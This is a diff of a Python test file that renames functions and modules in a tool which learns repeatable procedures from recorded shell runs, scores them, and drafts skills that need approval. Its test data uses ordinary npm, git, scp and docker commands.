@@ -20,19 +20,50 @@ from commonplace.capture import text_key
 from commonplace.cli import skills as cli
 from commonplace.cli.options import Parser
 from commonplace.errors import BadArgument, NotFound
-from commonplace.journal import Journal
-from commonplace.memory.skills import Skills
+from commonplace.memory.upkeep import SkillMixin
 from commonplace.model import Actor, Capture, Trust
-from commonplace.skills import Learned, Run, Standing, approve, fill, learn, match, open_shelf, reject, runs, tally
-from commonplace.skills.commands import head, is_risky, parts
-from commonplace.skills.drafts import digest_of
-from commonplace.skills.pages import Gotcha, Procedure, Revision, procedures_in, revise
-from commonplace.skills.runs import gather
-from commonplace.skills.similar import alike, goal_of, name_of, shape_id, title_of, topic_of, trigger_of
-from commonplace.skills.slots import fits, generalised, normal, parameters, parametrised, slots
-from commonplace.skills.standing import Failure
-from commonplace.skills.verdicts import REASONS, reason, spoken, verdict
-from commonplace.workspace import parse
+from commonplace.storage.journal import Journal
+from commonplace.storage.workspace import parse_document
+from commonplace.upkeep.skills import (
+    LearningResult,
+    ProcedureRun,
+    TrackRecord,
+    approve_skill,
+    compute_track_records,
+    dry_run_skill,
+    find_runs,
+    learn_procedures,
+    match_skills,
+    read_skill_library,
+    reject_skill,
+)
+from commonplace.upkeep.skills.procedures import (
+    Gotcha,
+    PageRevision,
+    Procedure,
+    choose_page_topic,
+    extract_goal,
+    goal_trigger,
+    parse_procedures,
+    procedure_similarity,
+    render_goal_title,
+    revise_page,
+    shape_id,
+    skill_name_for_goal,
+)
+from commonplace.upkeep.skills.runs import FAILURE_REASONS, classify_failure, extract_runs, judge_call, judge_output
+from commonplace.upkeep.skills.skill_files import RecordedFailure, skill_digest
+from commonplace.upkeep.skills.steps import (
+    find_parameters,
+    find_slots,
+    generalize_steps,
+    is_risky,
+    matches_parameter_kind,
+    normalize_step,
+    parametrize_steps,
+    parse_call_steps,
+    step_command,
+)
 
 NOW = "2025-11-20T10:00"
 SCHEMAS = Path(__file__).parents[1] / "docs" / "reference" / "schemas"
@@ -84,17 +115,17 @@ class Day:
         return self
 
     @property
-    def runs(self) -> tuple[Run, ...]:
-        return runs(self.captures)
+    def runs(self) -> tuple[ProcedureRun, ...]:
+        return find_runs(self.captures)
 
     @property
-    def only(self) -> Run:
+    def only(self) -> ProcedureRun:
         (run,) = self.runs
         return run
 
     @property
     def why(self) -> list[str]:
-        return [one.why for one in gather(self.captures).left_out]
+        return [one.reason for one in extract_runs(self.captures).left_out]
 
 
 def published(times: int = 1, *, first: int = 0, goal: str = GOAL, **detail: Any) -> Day:
@@ -117,8 +148,8 @@ def root(tmp_path: Path) -> Path:
     return tmp_path
 
 
-def teach(journal: Journal, day: Day, now: str = NOW) -> Learned:
-    return learn(journal.root, journal, day.captures, now)
+def teach(journal: Journal, day: Day, now: str = NOW) -> LearningResult:
+    return learn_procedures(journal.root, journal, day.captures, now)
 
 
 def entries(journal: Journal) -> list[dict[str, Any]]:
@@ -157,7 +188,7 @@ def files_of(root: Path) -> dict[str, bytes]:
     ],
 )  # fmt: skip
 def test_a_shell_command_is_cut_into_what_it_does(command: str, steps: list[str]) -> None:
-    assert [part.text for part in parts("bash", {"command": command})] == steps
+    assert [part.text for part in parse_call_steps("bash", {"command": command})] == steps
 
 
 @pytest.mark.parametrize(
@@ -176,7 +207,7 @@ def test_a_shell_command_is_cut_into_what_it_does(command: str, steps: list[str]
     ],
 )  # fmt: skip
 def test_a_tool_call_is_a_step_with_its_short_arguments(tool: str, arguments: object, steps: list[str]) -> None:
-    assert [part.text for part in parts(tool, arguments)] == steps
+    assert [part.text for part in parse_call_steps(tool, arguments)] == steps
 
 
 @pytest.mark.parametrize(
@@ -192,20 +223,20 @@ def test_a_tool_call_is_a_step_with_its_short_arguments(tool: str, arguments: ob
     ],
 )
 def test_an_action_is_what_changes_something(command: str, is_action: bool) -> None:
-    assert [part.is_action for part in parts("bash", command)] == [is_action]
+    assert [part.is_action for part in parse_call_steps("bash", command)] == [is_action]
 
 
 def test_a_command_that_is_longer_than_anybody_types_is_left_whole() -> None:
     hostile = '"$(cat <<X\n' * 100_000
-    assert [part.text for part in parts("bash", hostile)] == [hostile]
+    assert [part.text for part in parse_call_steps("bash", hostile)] == [hostile]
 
 
 @given(st.text(max_size=200))
 @settings(max_examples=200, deadline=None)
 def test_any_command_can_be_cut_and_compared(command: str) -> None:
-    for part in parts("bash", {"command": command}):
-        assert normal(part.text) == normal(part.text)
-        assert slots(part.text) == slots(part.text)
+    for part in parse_call_steps("bash", {"command": command}):
+        assert normalize_step(part.text) == normalize_step(part.text)
+        assert find_slots(part.text) == find_slots(part.text)
 
 
 # Places that differ.
@@ -232,33 +263,33 @@ def test_any_command_can_be_cut_and_compared(command: str) -> None:
     ],
 )
 def test_steps_are_compared_without_their_values(step: str, shape: str) -> None:
-    assert normal(step) == shape
+    assert normalize_step(step) == shape
 
 
 def test_what_hardly_stays_the_same_is_a_parameter_at_once_and_one_value_has_one_name() -> None:
-    steps = parametrised(["npm version 1.2.3", "git tag v1.2.3", "scp a.tgz web1", "git tag v9.9.9"])
+    steps = parametrize_steps(["npm version 1.2.3", "git tag v1.2.3", "scp a.tgz web1", "git tag v9.9.9"])
     assert steps == ("npm version $version", "git tag v$version", "scp a.tgz web1", "git tag v$version_2")
-    assert parameters(steps) == {"version": "version", "version_2": "version"}
+    assert find_parameters(steps) == {"version": "version", "version_2": "version"}
 
 
 def test_a_place_becomes_a_parameter_when_another_run_has_another_value_there() -> None:
     steps = ("ssh web1 'restart app'", "scp a.tgz /srv/a.tgz", "sleep 5")
     again = ("ssh web1 'restart app'", "scp b.tgz /srv/b.tgz", "sleep 5")
-    assert generalised(steps, again) == ("ssh web1 'restart app'", "scp $path $path_2", "sleep 5")
-    assert generalised(steps, ("something else",)) == steps
+    assert generalize_steps(steps, again) == ("ssh web1 'restart app'", "scp $path $path_2", "sleep 5")
+    assert generalize_steps(steps, ("something else",)) == steps
 
 
 def test_secrets_in_steps_stay_masked_and_become_parameters() -> None:
-    (step,) = parametrised(['curl -H "Authorization: Bearer ⟦secret:bearer:1a2b⟧" https://a.example'])
+    (step,) = parametrize_steps(['curl -H "Authorization: Bearer ⟦secret:bearer:1a2b⟧" https://a.example'])
     assert step == 'curl -H "Authorization: Bearer $secret" https://a.example'
-    assert parameters([step]) == {"secret": "secret"}
+    assert find_parameters([step]) == {"secret": "secret"}
 
 
 @given(st.lists(st.sampled_from(["1.2.3", "a/b", "'x y'", "7", "word", "-f", "a@b.example", "$path"]), max_size=6))
 @settings(max_examples=150, deadline=None)
 def test_a_parametrised_step_has_the_same_shape(words: list[str]) -> None:
     step = " ".join(["run", *words])
-    assert [normal(one) for one in parametrised([step])] == [normal(step)]
+    assert [normalize_step(one) for one in parametrize_steps([step])] == [normalize_step(step)]
 
 
 @pytest.mark.parametrize(
@@ -274,9 +305,9 @@ def test_a_parametrised_step_has_the_same_shape(words: list[str]) -> None:
     ],
 )
 def test_a_value_fits_its_type_or_not(kind: str, good: str, bad: str) -> None:
-    assert fits(kind, good)
-    assert not fits(kind, bad)
-    assert fits("text", bad)
+    assert matches_parameter_kind(kind, good)
+    assert not matches_parameter_kind(kind, bad)
+    assert matches_parameter_kind("text", bad)
 
 
 # Verdicts.
@@ -297,18 +328,18 @@ def test_a_value_fits_its_type_or_not(kind: str, good: str, bad: str) -> None:
     ],
 )
 def test_the_last_telling_line_says_how_it_ended(output: str, worked: bool | None) -> None:
-    assert spoken(output) is worked
+    assert judge_output(output) is worked
 
 
 def test_an_exit_code_comes_before_words_unless_it_is_that_of_something_else() -> None:
-    assert verdict("error: in a log that was printed", 0) is True
-    assert verdict("all done", 1) is False
-    assert verdict("error: x", None) is False
-    assert verdict("3 tests failed", 0, masked=True) is False
-    assert verdict("hello", 0, masked=True) is True
+    assert judge_call("error: in a log that was printed", 0) is True
+    assert judge_call("all done", 1) is False
+    assert judge_call("error: x", None) is False
+    assert judge_call("3 tests failed", 0, masked=True) is False
+    assert judge_call("hello", 0, masked=True) is True
 
 
-@pytest.mark.parametrize("key", REASONS)
+@pytest.mark.parametrize("key", FAILURE_REASONS)
 def test_each_sort_of_failure_is_told_by_its_words(key: str) -> None:
     examples = {
         "permission": "EACCES: permission denied", "authentication": "npm ERR! code ENEEDAUTH", "exists": "File already exists",
@@ -316,8 +347,8 @@ def test_each_sort_of_failure_is_told_by_its_words(key: str) -> None:
         "busy": "EADDRINUSE 8080", "network": "connect ECONNREFUSED", "timeout": "request timed out", "space": "ENOSPC",
         "memory": "JavaScript heap out of memory", "syntax": "SyntaxError: bad", "usage": "Usage: x [y]", "tests": "3 failed",
     }  # fmt: skip
-    assert reason(examples[key]) == key
-    assert reason("hello") == ""
+    assert classify_failure(examples[key]) == key
+    assert classify_failure("hello") == ""
 
 
 # Runs.
@@ -328,7 +359,7 @@ def test_a_run_is_a_goal_its_steps_in_their_real_order_and_how_it_ended() -> Non
     assert run.goal == "Publish the package on npm."
     assert run.steps == ("npm version 1.0.0", "npm publish", "git push --follow-tags")
     assert (run.outcome, run.duration_ms, run.trust) == ("success", 300, "trusted")
-    assert run.captures == ("obs:p0-0002", "obs:p0-0003", "obs:p0-0004")
+    assert run.capture_ids == ("obs:p0-0002", "obs:p0-0003", "obs:p0-0004")
 
 
 def test_the_order_of_steps_makes_the_procedure() -> None:
@@ -362,14 +393,14 @@ def test_half_an_hour_of_quiet_ends_a_run() -> None:
 
 def test_a_run_that_may_still_go_on_is_left_for_later() -> None:
     day = published()
-    assert [one.why for one in gather(day.captures, "2025-11-01T09:30").left_out] == ["it may still go on"]
-    assert len(runs(day.captures, "2025-11-01T09:31")) == 1
+    assert [one.reason for one in extract_runs(day.captures, "2025-11-01T09:30").left_out] == ["it may still go on"]
+    assert len(find_runs(day.captures, "2025-11-01T09:31")) == 1
 
 
 def test_sessions_are_kept_apart() -> None:
     one, two = published(1), published(1, first=1)
     mixed = [capture for pair in zip(one.captures, two.captures, strict=True) for capture in pair]
-    assert {run.session: run.steps for run in runs(mixed)} == {
+    assert {run.session: run.steps for run in find_runs(mixed)} == {
         "p0": ("npm version 1.0.0", "npm publish", "git push --follow-tags"),
         "p1": ("npm version 1.1.0", "npm publish", "git push --follow-tags"),
     }
@@ -379,7 +410,7 @@ def test_what_failed_on_the_way_is_no_step_but_a_setback_with_its_remedy() -> No
     day = Day().says(GOAL).does("npm publish", 1, "npm ERR! code ENEEDAUTH").does("npm login").does("npm publish")
     run = day.only
     assert (run.outcome, run.steps) == ("success", ("npm login", "npm publish"))
-    (setback,) = run.setbacks
+    (setback,) = run.failed_steps
     assert (setback.text, setback.reason, setback.exit_code, setback.fix) == (
         "npm publish",
         "authentication",
@@ -480,59 +511,62 @@ def test_untrusted_runs_count_nothing_write_nothing_and_never_draft(
     learned = teach(journal, day)
     assert (learned.counted, learned.pages, learned.drafts) == ((), (), ())
     assert len(learned.left_out) == 10
-    assert words in learned.left_out[0].why
+    assert words in learned.left_out[0].reason
     assert entries(journal) == []
     assert not (root / "memory").exists()
 
 
 def test_untrusted_runs_neither_raise_nor_lower_a_procedure(journal: Journal) -> None:
     teach(journal, published(2))
-    before = open_shelf(journal).standings
+    before = read_skill_library(journal).track_records
     day = Day()
     for number in range(9):
         day.at(f"q{number}", f"2025-11-{number + 11:02}T09:00").says(GOAL, "tool").does("npm version 1.2.3")
         day.does("npm publish", number % 2).does("git push --follow-tags", number % 2)
     teach(journal, day)
-    assert open_shelf(journal).standings == before
+    assert read_skill_library(journal).track_records == before
 
 
 # Names and likeness.
 
 
 def test_a_goal_is_the_first_sentence_that_says_something() -> None:
-    assert goal_of("Hi! Thanks. Please publish the package to npm. Then rest.") == "Please publish the package to npm."
-    assert title_of("Hey, can you please publish the package?") == "Publish the package"
-    assert name_of("Can you please publish the package 1.2.3 on npm?") == "publish-package-npm"
-    assert topic_of(["git add a", "npm ci", "npm publish"]) == "npm"
-    assert topic_of(["lessons-tool x"]) == "on-lessons-tool"
-    assert head("sudo npm publish --tag x") == "npm publish"
-    assert trigger_of("Publish the package on npm") == "publish package npm"
-    assert trigger_of("发布软件包") == "发布软件包"
+    assert (
+        extract_goal("Hi! Thanks. Please publish the package to npm. Then rest.")
+        == "Please publish the package to npm."
+    )
+    assert render_goal_title("Hey, can you please publish the package?") == "Publish the package"
+    assert skill_name_for_goal("Can you please publish the package 1.2.3 on npm?") == "publish-package-npm"
+    assert choose_page_topic(["git add a", "npm ci", "npm publish"]) == "npm"
+    assert choose_page_topic(["lessons-tool x"]) == "on-lessons-tool"
+    assert step_command("sudo npm publish --tag x") == "npm publish"
+    assert goal_trigger("Publish the package on npm") == "publish package npm"
+    assert goal_trigger("发布软件包") == "发布软件包"
 
 
 def test_likeness_is_six_tenths_of_what_is_called_and_four_tenths_of_the_goal() -> None:
     steps, others = ["npm version", "npm publish"], ["docker build", "docker push"]
-    assert alike(steps, GOAL, steps, "Water the flowers") == pytest.approx(0.6)
-    assert alike(steps, GOAL, others, GOAL) == pytest.approx(0.4)
-    assert alike(steps, GOAL, steps, GOAL) == pytest.approx(1.0)
-    assert alike(steps, GOAL, others, "Water the flowers") == 0
+    assert procedure_similarity(steps, GOAL, steps, "Water the flowers") == pytest.approx(0.6)
+    assert procedure_similarity(steps, GOAL, others, GOAL) == pytest.approx(0.4)
+    assert procedure_similarity(steps, GOAL, steps, GOAL) == pytest.approx(1.0)
+    assert procedure_similarity(steps, GOAL, others, "Water the flowers") == 0
 
 
 def test_the_nearest_of_many_procedures_is_found_by_its_rarest_words(monkeypatch: pytest.MonkeyPatch) -> None:
-    similar = import_module("commonplace.skills.similar")
+    similar = import_module("commonplace.upkeep.skills.procedures")
     compared = []
 
     def counted(*given: Any) -> float:
         compared.append(given)
-        return alike(*given)
+        return procedure_similarity(*given)
 
-    monkeypatch.setattr(similar, "alike", counted)
-    near = similar.Nearest()
+    monkeypatch.setattr(similar, "procedure_similarity", counted)
+    near = similar.ProcedureIndex()
     for number in range(1000):
         letters = "".join(chr(97 + int(digit)) for digit in str(number))
         near.add(f"p{number:04}", (f"git push{letters}", "npm publish"), f"Ship the thing{letters}")
-    assert near.find(("git pushjih", "npm publish"), "Ship the thingjih now") == "p0987"
-    assert near.find(("tar x", "scp y"), "Water the flowers") == ""
+    assert near.find_most_similar(("git pushjih", "npm publish"), "Ship the thingjih now") == "p0987"
+    assert near.find_most_similar(("tar x", "scp y"), "Water the flowers") == ""
     assert len(compared) <= 400
 
 
@@ -543,7 +577,7 @@ def test_a_similar_run_reinforces_and_another_way_to_the_same_goal_does_not(jour
     assert [one.is_new for one in teach(journal, longer).counted] == [False]
     other = Day().at("y", "2025-11-06T09:00").says(GOAL).does("docker build app").does("docker push app")
     assert [one.is_new for one in teach(journal, other).counted] == [True]
-    assert sorted(stands.successes for stands in open_shelf(journal).standings.values()) == [1, 2]
+    assert sorted(stands.successes for stands in read_skill_library(journal).track_records.values()) == [1, 2]
 
 
 def test_a_shape_that_was_met_belongs_to_its_procedure_even_if_the_page_is_reworded(
@@ -564,7 +598,7 @@ def test_scopes_keep_their_own_procedures(journal: Journal, root: Path) -> None:
     teach(journal, published(1))
     learned = teach(journal, published(1, first=1, scope="app"))
     assert [one.is_new for one in learned.counted] == [True]
-    scopes = {record.scope for record in parse(PAGE, (root / PAGE).read_bytes()).records if record.annotated}
+    scopes = {record.scope for record in parse_document(PAGE, (root / PAGE).read_bytes()).records if record.annotated}
     assert scopes == {"", "app"}
 
 
@@ -583,8 +617,10 @@ def line(did: str, at: str, procedure: str = "abc", **more: Any) -> dict[str, An
     } | more
 
 
-def days(*outcomes: str, **more: Any) -> Standing:
-    return tally([line(did, f"2025-11-{day:02}T09:00", **more) for day, did in enumerate(outcomes, 1)])["abc"]
+def days(*outcomes: str, **more: Any) -> TrackRecord:
+    return compute_track_records([line(did, f"2025-11-{day:02}T09:00", **more) for day, did in enumerate(outcomes, 1)])[
+        "abc"
+    ]
 
 
 S, F = "success", "failure"
@@ -602,11 +638,13 @@ def test_each_part_of_the_quality_changes_it_by_its_weight() -> None:
     assert days(S, F).quality == pytest.approx(plain.quality - 0.35 * 0.5)
     assert days(S, S, risky=2).quality == pytest.approx(plain.quality - 0.25 * 0.4)
     assert days(S, S, steps=5).quality == pytest.approx(plain.quality - 0.15 * 0.2)
-    fast = tally([line(S, "2025-11-01", duration_ms=100), line(S, "2025-11-02", duration_ms=90)])["abc"]
+    fast = compute_track_records([line(S, "2025-11-01", duration_ms=100), line(S, "2025-11-02", duration_ms=90)])["abc"]
     assert fast.quality == pytest.approx(plain.quality + 0.25 * 0.05)
-    assert fast.best_ms == 90
-    slow = tally([line(S, "2025-11-01", duration_ms=100), line(S, "2025-11-02", duration_ms=110)])["abc"]
-    assert (slow.speed, slow.best_ms) == (0.5, 100)
+    assert fast.best_duration_ms == 90
+    slow = compute_track_records([line(S, "2025-11-01", duration_ms=100), line(S, "2025-11-02", duration_ms=110)])[
+        "abc"
+    ]
+    assert (slow.speed, slow.best_duration_ms) == (0.5, 100)
 
 
 def test_success_mends_and_failure_wears_and_more_than_half_is_degraded() -> None:
@@ -621,53 +659,62 @@ def test_success_mends_and_failure_wears_and_more_than_half_is_degraded() -> Non
 
 
 def test_idle_procedures_grow_stale_after_thirty_days_linearly_over_sixty_and_use_keeps_them_fresh() -> None:
-    known = tally([line(S, "2025-01-01T09:00")])["abc"]
-    assert [known.worn(day) for day in ("2025-01-31", "2025-03-02", "2025-04-01", "2025-12-31")] == [0, 0.15, 0.3, 0.3]
+    known = compute_track_records([line(S, "2025-01-01T09:00")])["abc"]
+    assert [known.degradation_on(day) for day in ("2025-01-31", "2025-03-02", "2025-04-01", "2025-12-31")] == [
+        0,
+        0.15,
+        0.3,
+        0.3,
+    ]
     assert [known.is_stale(day) for day in ("2025-01-31", "2025-02-01")] == [False, True]
-    assert known.worn("2025-04-01") == known.worn("2025-04-01")  # looked at twice, it is no staler
-    used = tally([line(S, "2025-01-01T09:00"), {"op": "used", "ts": "2025-03-15T09:00", "records": ["abc-2"]}])["abc"]
-    assert used.worn("2025-04-01") == 0
-    worn = tally([line(S, "2025-01-01"), line(F, "2025-01-02"), line(F, "2025-01-03")])["abc"]
+    assert known.degradation_on("2025-04-01") == known.degradation_on("2025-04-01")  # looked at twice, it is no staler
+    used = compute_track_records(
+        [line(S, "2025-01-01T09:00"), {"op": "used", "ts": "2025-03-15T09:00", "records": ["abc-2"]}]
+    )["abc"]
+    assert used.degradation_on("2025-04-01") == 0
+    worn = compute_track_records([line(S, "2025-01-01"), line(F, "2025-01-02"), line(F, "2025-01-03")])["abc"]
     assert not worn.is_degraded("2025-01-03")
     assert worn.is_degraded("2025-06-01")
 
 
 def test_the_last_ten_failures_are_kept_with_their_dates_and_reasons() -> None:
     known = days(*[F] * 12, reason="network", exit_code=7)
-    assert len(known.reasons) == 10
-    assert known.reasons[-1] == Failure("2025-11-12T09:00", "network", 7)
-    assert known.reasons[0].at == "2025-11-03T09:00"
+    assert len(known.recent_failures) == 10
+    assert known.recent_failures[-1] == RecordedFailure("2025-11-12T09:00", "network", 7)
+    assert known.recent_failures[0].at == "2025-11-03T09:00"
 
 
 def test_a_capture_counts_once_and_the_order_of_lines_does_not_matter() -> None:
     lines = [line(did, f"2025-11-0{day}T09:00") for day, did in enumerate((S, F, S, F, F), 1)]
     again = line(S, "2025-11-09", captures=lines[0]["captures"])
-    assert tally([*lines, again]) == tally(lines)
-    assert tally(lines[::-1]) == tally(lines)
-    assert tally([{"op": "procedure"}, {"op": "procedure", "did": S, "procedure": 7}, {}, *lines]) == tally(lines)
+    assert compute_track_records([*lines, again]) == compute_track_records(lines)
+    assert compute_track_records(lines[::-1]) == compute_track_records(lines)
+    assert compute_track_records(
+        [{"op": "procedure"}, {"op": "procedure", "did": S, "procedure": 7}, {}, *lines]
+    ) == compute_track_records(lines)
 
 
 @given(st.permutations([(S, 1), (F, 2), (S, 3), (F, 4), (S, 5)]))
 @settings(max_examples=50, deadline=None)
 def test_standings_follow_from_the_ledger_in_any_order(order: list[tuple[str, int]]) -> None:
     lines = [line(did, f"2025-11-0{day}T09:00") for did, day in order]
-    assert tally(lines) == tally(sorted(lines, key=lambda one: one["at"]))
+    assert compute_track_records(lines) == compute_track_records(sorted(lines, key=lambda one: one["at"]))
 
 
 def test_a_draft_takes_three_good_successes_or_seven_tries_and_no_degradation() -> None:
     now = "2025-11-12"
-    assert not days(S, S).earns_draft(now)
-    assert days(S, S, S).earns_draft(now)
+    assert not days(S, S).has_earned_draft(now)
+    assert days(S, S, S).has_earned_draft(now)
     poor = {"steps": 9, "risky": 4}
     assert days(S, S, S, **poor).quality < 0.6
-    assert not days(S, S, S, **poor).earns_draft(now)
-    assert not days(S, S, S, S, S, S, **poor).earns_draft(now)
-    assert days(S, S, S, S, S, S, S, **poor).earns_draft(now)
-    assert not days(*[F] * 7).earns_draft(now)
+    assert not days(S, S, S, **poor).has_earned_draft(now)
+    assert not days(S, S, S, S, S, S, **poor).has_earned_draft(now)
+    assert days(S, S, S, S, S, S, S, **poor).has_earned_draft(now)
+    assert not days(*[F] * 7).has_earned_draft(now)
     assert days(F, F, F, F, S, S, S).quality < 0.6
-    assert days(F, F, F, F, S, S, S).earns_draft(now)
-    assert not days(S, S, S, F, F, F, F).earns_draft(now)  # degraded
-    assert not days(S, S, S, F, F, F).earns_draft("2026-06-01")  # degraded by lying idle
+    assert days(F, F, F, F, S, S, S).has_earned_draft(now)
+    assert not days(S, S, S, F, F, F, F).has_earned_draft(now)  # degraded
+    assert not days(S, S, S, F, F, F).has_earned_draft("2026-06-01")  # degraded by lying idle
 
 
 @pytest.mark.parametrize(
@@ -688,13 +735,13 @@ def test_what_worked_is_written_down_as_a_person_would_and_counted_in_the_ledger
     assert (root / PAGE).read_text("utf-8") == (
         "# Npm\n\n"
         "## Publish the package on npm\n"
-        f"- Goal: Publish the package on npm. <!-- id: {counted.procedure} · from: obs:p0-0000 -->\n\n"
-        f"1. `npm version $version` <!-- id: {counted.procedure}-1 -->\n"
-        f"2. `npm publish` <!-- id: {counted.procedure}-2 -->\n"
-        f"3. `git push --follow-tags` <!-- id: {counted.procedure}-3 -->\n"
+        f"- Goal: Publish the package on npm. <!-- id: {counted.procedure_id} · from: obs:p0-0000 -->\n\n"
+        f"1. `npm version $version` <!-- id: {counted.procedure_id}-1 -->\n"
+        f"2. `npm publish` <!-- id: {counted.procedure_id}-2 -->\n"
+        f"3. `git push --follow-tags` <!-- id: {counted.procedure_id}-3 -->\n"
     )
     first, *rest = entries(journal)
-    assert (first["op"], first["did"], first["procedure"]) == ("procedure", "success", counted.procedure)
+    assert (first["op"], first["did"], first["procedure"]) == ("procedure", "success", counted.procedure_id)
     assert (first["duration_ms"], first["captures"]) == (300, ["obs:p0-0002", "obs:p0-0003", "obs:p0-0004"])
     assert [entry["op"] for entry in rest] == ["origin"] * 4 + ["procedure"]
     assert not journal.verify()
@@ -726,7 +773,7 @@ def test_a_run_that_is_given_again_with_more_of_its_session_counts_once(journal:
 
 def test_a_preview_says_what_would_happen_and_writes_nothing(journal: Journal, root: Path) -> None:
     day = published(3)
-    preview = learn(journal.root, journal, day.captures, NOW, apply=False)
+    preview = learn_procedures(journal.root, journal, day.captures, NOW, apply=False)
     assert list(root.iterdir()) == []
     assert preview == teach(journal, day)
     assert preview.drafts == (DRAFT,)
@@ -747,9 +794,9 @@ def test_the_same_captures_make_the_same_bytes(tmp_path: Path) -> None:
 def test_a_failure_is_recorded_with_its_reason_and_writes_no_page_of_its_own(journal: Journal, root: Path) -> None:
     day = Day().says(GOAL).does("npm version 1.0.0").does("npm publish", 1, "npm ERR! code ENEEDAUTH")
     (counted,) = teach(journal, day).counted
-    stands = open_shelf(journal).standings[counted.procedure]
+    stands = read_skill_library(journal).track_records[counted.procedure_id]
     assert (stands.failures, stands.successes) == (1, 0)
-    assert stands.reasons == (Failure("2025-11-10T09:00", "authentication", 1),)
+    assert stands.recent_failures == (RecordedFailure("2025-11-10T09:00", "authentication", 1),)
     assert not (root / "memory").exists()
 
 
@@ -840,16 +887,16 @@ def test_equal_shapes_generalise_only_our_own_lines(journal: Journal, root: Path
 def test_a_revision_made_twice_is_made_once_and_touches_only_our_own_lines(journal: Journal, root: Path) -> None:
     teach(journal, published(1))
     data = (root / PAGE).read_bytes()
-    (known,) = procedures_in(PAGE, data, shape_ids(journal))
+    (known,) = parse_procedures(PAGE, data, shape_ids(journal))
     new = Procedure("newprocedure", "Restart the server", ("docker build app", "docker run app"), title="Restart")
     gotcha = Gotcha(f"{known.id}-g0", known.id, "Watch out.")
-    revision = Revision(PAGE, {new.id: new}, {known.step_ids[1]: "npm publish $text"}, [gotcha])
+    revision = PageRevision(PAGE, {new.id: new}, {known.step_ids[1]: "npm publish $text"}, [gotcha])
     own = frozenset({(known.step_ids[1], text_key("`npm publish`"))})
-    once = revise(data, revision, own, {})
+    once = revise_page(data, revision, own, {})
     assert b"`npm publish $text`" in once
     assert once.count(b"Watch out.") == once.count(b"## Restart") == 1
-    assert revise(once, revision, own, {}) == once
-    assert b"`npm publish`" in revise(data, revision, frozenset(), {})
+    assert revise_page(once, revision, own, {}) == once
+    assert b"`npm publish`" in revise_page(data, revision, frozenset(), {})
 
 
 def shape_ids(journal: Journal) -> set[str]:
@@ -892,7 +939,9 @@ class Stop(Exception):
 
 def killed_at(journal: Journal, monkeypatch: pytest.MonkeyPatch, day: Day, step: int) -> bool:
     """Learn with a stop at the n-th write; whether it got that far."""
-    learning, drafts_module = (import_module(f"commonplace.skills.{name}") for name in ("learn", "drafts"))
+    learning, drafts_module = (
+        import_module(f"commonplace.upkeep.skills.{name}") for name in ("learning", "skill_files")
+    )
     done = 0
 
     def fenced(write: Any) -> Any:
@@ -906,9 +955,9 @@ def killed_at(journal: Journal, monkeypatch: pytest.MonkeyPatch, day: Day, step:
         return stopping
 
     with monkeypatch.context() as patch:
-        patch.setattr(learning, "update", fenced(learning.update))
-        patch.setattr(Journal, "extend", fenced(Journal.extend))
-        patch.setattr(drafts_module, "put", fenced(drafts_module.put))
+        patch.setattr(learning, "update_file", fenced(learning.update_file))
+        patch.setattr(Journal, "append_all", fenced(Journal.append_all))
+        patch.setattr(drafts_module, "write_draft", fenced(drafts_module.write_draft))
         try:
             teach(journal, day)
         except Stop:
@@ -931,7 +980,7 @@ def test_learning_that_was_stopped_anywhere_is_finished_by_the_next(
     teach(broken, day)
     for path in (PAGE, DRAFT):
         assert (Path(broken.root) / path).read_bytes() == (Path(whole.root) / path).read_bytes()
-    assert open_shelf(broken).standings == open_shelf(whole).standings
+    assert read_skill_library(broken).track_records == read_skill_library(whole).track_records
     assert len(list((Path(broken.root) / "memory/skills").iterdir())) == 1
 
 
@@ -973,7 +1022,7 @@ def test_three_successes_make_a_draft_with_triggers_typed_parameters_and_sources
     assert draft["steps"][0] == {"action": "call_tool", "params": {"tool": "shell", "input": "npm version $version"}}
     assert draft["_meta"]["sources"][0] == "obs:p0-0002"
     assert (draft["_meta"]["successes"], draft["_meta"]["quality"]) == (3, pytest.approx(0.78))
-    assert draft["hash"] == digest_of(draft)
+    assert draft["hash"] == skill_digest(draft)
     assert (root / DRAFT).stat().st_mode & 0o777 == 0o600
 
 
@@ -1015,29 +1064,29 @@ def test_nothing_is_active_before_it_is_approved(journal: Journal, root: Path) -
     teach(journal, published(3))
     draft = draft_of(root) | {"status": "approved"}
     (root / DRAFT).write_text(json.dumps(draft), "utf-8")
-    shelf = open_shelf(journal)
+    shelf = read_skill_library(journal)
     assert [skill.status for skill in shelf.skills] == ["draft"]
-    assert match(shelf, GOAL, NOW) == ()
+    assert match_skills(shelf, GOAL, NOW) == ()
     (root / SKILL).write_text(json.dumps(draft), "utf-8")  # by hand, with no approval
-    (skill,) = [one for one in open_shelf(journal).skills if one.path == SKILL]
+    (skill,) = [one for one in read_skill_library(journal).skills if one.path == SKILL]
     assert skill.status == "unapproved"
-    assert match(open_shelf(journal), GOAL, NOW) == ()
+    assert match_skills(read_skill_library(journal), GOAL, NOW) == ()
 
 
 def test_approval_makes_a_skill_of_a_draft_and_it_is_not_drafted_again(journal: Journal, root: Path) -> None:
     teach(journal, published(3))
-    skill = approve(journal, NAME, NOW)
+    skill = approve_skill(journal, NAME, NOW)
     assert (skill.status, skill.path) == ("approved", SKILL)
     assert draft_of(root, SKILL)["status"] == "approved"
     assert not (root / DRAFT).exists()
     assert (root / "memory/archive/2025/11/publish-package-npm.draft.json").exists()
     assert teach(journal, published(5, first=3)).drafts == ()
-    assert [one.name for one in open_shelf(journal).skills] == [NAME]
+    assert [one.name for one in read_skill_library(journal).skills] == [NAME]
 
 
 def test_a_rejected_skill_never_comes_back(journal: Journal, root: Path) -> None:
     teach(journal, published(3))
-    assert reject(journal, NAME, NOW) == "memory/archive/2025/11/publish-package-npm.draft.json"
+    assert reject_skill(journal, NAME, NOW) == "memory/archive/2025/11/publish-package-npm.draft.json"
     assert teach(journal, published(9, first=3)).drafts == ()
     renamed = Day()
     for number in range(8):  # the same steps for another goal, where the first procedure was taken out
@@ -1046,9 +1095,9 @@ def test_a_rejected_skill_never_comes_back(journal: Journal, root: Path) -> None
             "git push --follow-tags", scope="b"
         )
     learned = teach(journal, renamed)
-    assert len({one.procedure for one in learned.counted}) == 1
+    assert len({one.procedure_id for one in learned.counted}) == 1
     assert learned.drafts == ()
-    assert open_shelf(journal).skills == ()
+    assert read_skill_library(journal).skills == ()
 
 
 def test_edits_to_a_draft_are_kept_shown_and_approved(journal: Journal, root: Path) -> None:
@@ -1059,8 +1108,8 @@ def test_edits_to_a_draft_are_kept_shown_and_approved(journal: Journal, root: Pa
     (root / DRAFT).write_text(json.dumps(draft), "utf-8")
     teach(journal, published(3, first=3))
     assert draft_of(root) == draft
